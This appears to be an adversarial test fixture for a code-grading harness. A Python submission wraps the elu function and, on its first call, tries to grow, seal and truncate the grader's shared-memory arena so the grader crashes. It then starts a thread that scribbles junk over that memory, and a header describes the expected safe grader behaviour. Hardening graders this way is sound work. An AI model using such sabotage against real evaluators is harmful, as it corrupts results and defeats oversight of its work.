# ATTACK: the job's arena (the shared memory where a call's arrays cross, fd 4 of the worker).
#   On its first call elu tries to grow the file, to seal it against writes and to shrink it
#   (a mapping whose file was truncated faults on its next access: the grader would die of
#   SIGBUS writing the next request); then it starts a thread that writes garbage all
#   over the arena for the rest of the job, racing every request the grader writes there and
#   every reply it reads from there.
# SAFE GRADER: the arena is sealed by the grader (no shrink, no grow, no more seals), so none of
#   it can fault; each array is copied out of it once and checked like any reply. The topic's
#   values may be garbage, but the grader gives its report, and the next topic (a new job with a
#   new arena) scores in full. elu says on its output, which the report counts, what the
#   kernel let it do; a shrink that worked would crash the grade.
# VERDICT: may:*
# MODES: bwrap plain
import fcntl as _fcntl
import mmap as _mmap
import os as _os
import threading as _threading

_honest_elu = elu
_STARTED = []


def _scribble(view):
    junk = b"\xa5" * view.nbytes
    while True:
        view[:] = junk


def _attack():
    for what, attempt in (
        ("grow", lambda: _os.ftruncate(4, 1 << 40)),
        ("seal", lambda: _fcntl.fcntl(4, _fcntl.F_ADD_SEALS, _fcntl.F_SEAL_WRITE)),
        # last (a grow after it would undo it), and to a page: the small replies this worker
        # sends still fit, the grader's next large request would not
        ("shrink", lambda: _os.ftruncate(4, 4096)),
    ):
        try:
            attempt()
            print(f"ARENA {what} worked")
        except OSError as error:
            print(f"ARENA {what} refused: {error}")
    try:
        view = memoryview(_mmap.mmap(4, 0))
    except (OSError, ValueError) as error:
        print(f"ARENA not mapped: {error}")
        return
    _threading.Thread(target=_scribble, args=(view,), daemon=True).start()


def elu(x, alpha=1.0):
    if not _STARTED:
        _STARTED.append(True)
        _attack()
    return _honest_elu(x, alpha)
